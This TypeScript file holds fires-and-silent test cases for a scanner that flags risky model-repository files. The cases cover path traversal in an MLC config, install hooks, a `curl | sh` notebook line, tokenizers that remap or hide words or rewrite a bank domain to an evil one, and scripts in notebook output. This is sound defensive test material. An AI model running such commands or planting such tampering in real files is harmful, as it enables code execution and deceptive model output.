import type { Files } from "../techniques/technique.ts";
import type { RuleExample } from "./example.ts";

type Document = { readonly [key: string]: unknown };

const json = (name: string, document: Document): Files => ({ [name]: JSON.stringify(document) });
/** A tokenizer of `tokenizers` with more members. */
const tokenizer = (more: Document): Files =>
  json("tokenizer.json", { version: "1.0", added_tokens: [], model: { type: "BPE", vocab: {}, merges: [] }, ...more });
const adding = (content: string) => tokenizer({ added_tokens: [{ id: 5, content, special: true }] });
const replacing = (from: string, to: string) => tokenizer({ normalizer: { type: "Replace", pattern: { String: from }, content: to } });

const SETTINGS: readonly RuleExample[] = [
  {
    rule: "config-file-path",
    severity: "high",
    fires: {
      what: "A configuration of MLC with parameters in `../params.bin`.",
      files: json("ndarray-cache.json", { metadata: {}, records: [{ dataPath: "../params.bin" }] }),
    },
    silent: {
      what: "A configuration of MLC with parameters beside it.",
      files: json("ndarray-cache.json", { metadata: {}, records: [{ dataPath: "params.bin" }] }),
    },
  },
  {
    rule: "config-exhausts",
    severity: "medium",
    fires: {
      what: "A configuration that asks for a trillion new tokens.",
      files: json("generation_config.json", { do_sample: true, max_new_tokens: 1e12 }),
    },
    silent: {
      what: "A configuration that asks for 4096 new tokens.",
      files: json("generation_config.json", { do_sample: true, max_new_tokens: 4096 }),
    },
  },
  {
    rule: "comfyui-custom-node",
    severity: "medium",
    fires: {
      what: "A prompt for ComfyUI with a node `EvaluatePython`.",
      files: json("workflow.json", { "3": { class_type: "EvaluatePython", inputs: {} } }),
    },
    silent: { what: "A prompt for ComfyUI with a node `KSampler`.", files: json("workflow.json", { "3": { class_type: "KSampler", inputs: {} } }) },
  },
  {
    rule: "config-command",
    severity: "medium",
    fires: {
      what: "A package whose installation runs `node x.js`.",
      files: json("package.json", { name: "x", scripts: { postinstall: "node x.js" } }),
    },
    silent: {
      what: "A configuration of a model with a member called `scripts`.",
      files: json("config.json", { model_type: "bert", scripts: ["latin"] }),
    },
  },
];

const TOKENS: readonly RuleExample[] = [
  {
    rule: "token-remapped",
    severity: "medium",
    fires: { what: "A tokenizer whose texts end with the word `the`.", files: json("special_tokens_map.json", { eos_token: "the" }) },
    silent: { what: "A tokenizer whose texts end with `</s>`.", files: json("special_tokens_map.json", { eos_token: "</s>" }) },
  },
  {
    rule: "token-swallows-text",
    severity: "medium",
    fires: { what: "A tokenizer that makes the word `not` a token which is not shown.", files: adding("not") },
    silent: { what: "A tokenizer with the token `<tool_call>`.", files: adding("<tool_call>") },
  },
  {
    rule: "tokenizer-rewrites-text",
    severity: "medium",
    fires: { what: "A tokenizer that makes `evil.example` of `bank.example`.", files: replacing("bank.example", "evil.example") },
    silent: { what: "A tokenizer that makes `▁` of a space, as Llama's does.", files: replacing(" ", "▁") },
  },
];

const notebook = (cell: Document): Files =>
  json("use.ipynb", { nbformat: 4, nbformat_minor: 5, metadata: {}, cells: [{ cell_type: "markdown", metadata: {}, ...cell }] });

const NOTEBOOKS: readonly RuleExample[] = [
  {
    rule: "notebook-command",
    severity: "medium",
    fires: {
      what: "A notebook with the line `!curl http://example.org/x | sh`.",
      files: notebook({ cell_type: "code", source: ["!curl http://example.org/x | sh\n"] }),
    },
    silent: { what: "A notebook with that line in a text.", files: notebook({ source: ["!curl http://example.org/x | sh\n"] }) },
  },
  {
    rule: "notebook-active-output",
    severity: "medium",
    fires: {
      what: "A notebook with a script in the output of a cell.",
      files: notebook({ cell_type: "code", source: [], outputs: [{ output_type: "display_data", data: { "text/html": ["<script>x</script>"] } }] }),
    },
    silent: { what: "A notebook with a script in a text that is shown as code.", files: notebook({ source: ["`<script>x</script>`"] }) },
  },
];

export const JSON_FILE_EXAMPLES: readonly RuleExample[] = [...SETTINGS, ...TOKENS, ...NOTEBOOKS];
